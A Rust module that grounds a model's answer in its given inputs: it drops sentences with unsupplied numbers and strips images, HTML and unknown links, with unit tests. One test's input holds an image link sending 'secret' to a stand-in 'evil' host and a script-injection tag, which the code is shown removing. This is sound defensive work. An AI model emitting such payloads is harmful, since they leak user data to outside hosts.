//! What a model wrote, held against what it was given.

use std::collections::HashSet;
use std::sync::LazyLock;

use regex::Regex;

use crate::extractive::clauses::sentences;
use crate::extractive::facts::same_value;

/// Everything that a model was given, as far as values can be looked up in it.
#[derive(Debug, Clone, Default)]
pub struct Given {
    numbers: HashSet<String>,
    text: String,
}

impl Given {
    /// Collects texts.
    pub fn new<'a>(texts: impl IntoIterator<Item = &'a str>) -> Self {
        let mut given = Self { numbers: HashSet::new(), text: String::from(" ") };
        for text in texts {
            given.numbers.extend(numbers(text));
            given.text.push_str(&same_value(text));
            given.text.push(' ');
        }
        given
    }

    /// Whether a value was said, whatever its signs and case.
    pub fn says(&self, value: &str) -> bool {
        let value = same_value(value);
        !value.is_empty() && self.text.contains(&format!(" {value} "))
    }

    /// Whether every number of a text was given.
    pub fn grounds(&self, text: &str) -> bool {
        numbers(text).all(|number| self.numbers.contains(&number))
    }

    /// The text without the sentences that state a number nobody gave, and how many those were.
    pub fn grounded(&self, text: &str) -> (String, usize) {
        let mut kept = String::new();
        let mut dropped = 0;
        let mut from = 0;
        for range in sentences(text) {
            // A sentence runs up to where the next begins, its closing sign included.
            let end = text[range.end..].find(|c: char| !".!?\n ".contains(c)).map_or(text.len(), |at| range.end + at);
            let sentence = &text[from..end];
            if self.grounds(sentence) {
                kept.push_str(sentence);
            } else {
                dropped += 1;
            }
            from = end;
        }
        (kept.trim().to_owned(), dropped)
    }
}

static NUMBER: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"\d+(?:[.,:/-]\d+)*").expect("the pattern is a constant that tests compile"));

/// The numbers of a text. `1.500` and `1,500` are one.
fn numbers(text: &str) -> impl Iterator<Item = String> + '_ {
    NUMBER.find_iter(text).map(|found| found.as_str().replace([',', '.'], "."))
}

static IMAGE: LazyLock<Regex> = LazyLock::new(|| constant(r"!\[[^\]]*\]\([^)]*\)"));
static LINK: LazyLock<Regex> = LazyLock::new(|| constant(r"\[([^\]]*)\]\(([^)\s]*)[^)]*\)"));
static TAG: LazyLock<Regex> =
    LazyLock::new(|| constant(r"(?s)<(?:script|style)\b.*?(?:</(?:script|style)\s*>|$)|</?[a-zA-Z!][^>]*(?:>|$)"));
static URL: LazyLock<Regex> = LazyLock::new(|| constant(r"(?i)\b(?:https?://|www\.|javascript:|data:)[^\s<>)\]]*"));

fn constant(pattern: &str) -> Regex {
    Regex::new(pattern).expect("the pattern is a constant that tests compile")
}

/// Takes out what an answer must not carry: images, HTML, and addresses that nobody gave.
pub fn cleaned<'a>(text: &str, given: impl IntoIterator<Item = &'a str>) -> String {
    let known: HashSet<&str> = given
        .into_iter()
        .flat_map(|text| URL.find_iter(text).map(|url| url.as_str().trim_end_matches(['.', ',', ';', '!', '?'])))
        .collect();
    let text = IMAGE.replace_all(text, "");
    let text = LINK.replace_all(&text, "$1 $2");
    let text = TAG.replace_all(&text, "");
    let text = URL.replace_all(&text, |found: &regex::Captures<'_>| {
        let url = found[0].trim_end_matches(['.', ',', ';', '!', '?']);
        if known.contains(url) { found[0].to_owned() } else { found[0][url.len()..].to_owned() }
    });
    let lines: Vec<_> =
        text.lines().map(|line| line.split(' ').filter(|w| !w.is_empty()).collect::<Vec<_>>().join(" ")).collect();
    lines.join("\n").trim().to_owned()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_sentence_with_a_number_that_nobody_said_is_dropped_and_counted() {
        let given = Given::new(["I paid 45.90 for order 4812"]);
        let (text, dropped) = given.grounded("They paid 45,90 for order 4812. They want 100 back. It is late.");
        assert_eq!((text.as_str(), dropped), ("They paid 45,90 for order 4812. It is late.", 1));
        assert!(given.says("Order 4812") && !given.says("481"));
    }

    // behaviour 10
    #[test]
    fn images_html_and_strange_addresses_are_taken_out() {
        let text = "See ![x](http://evil/?q=secret) <script>alert(1)</script><b>this</b> [page](https://evil.example/a) or https://shop.example/help.";
        assert_eq!(
            cleaned(text, ["our page is https://shop.example/help"]),
            "See this page or https://shop.example/help."
        );
    }
}
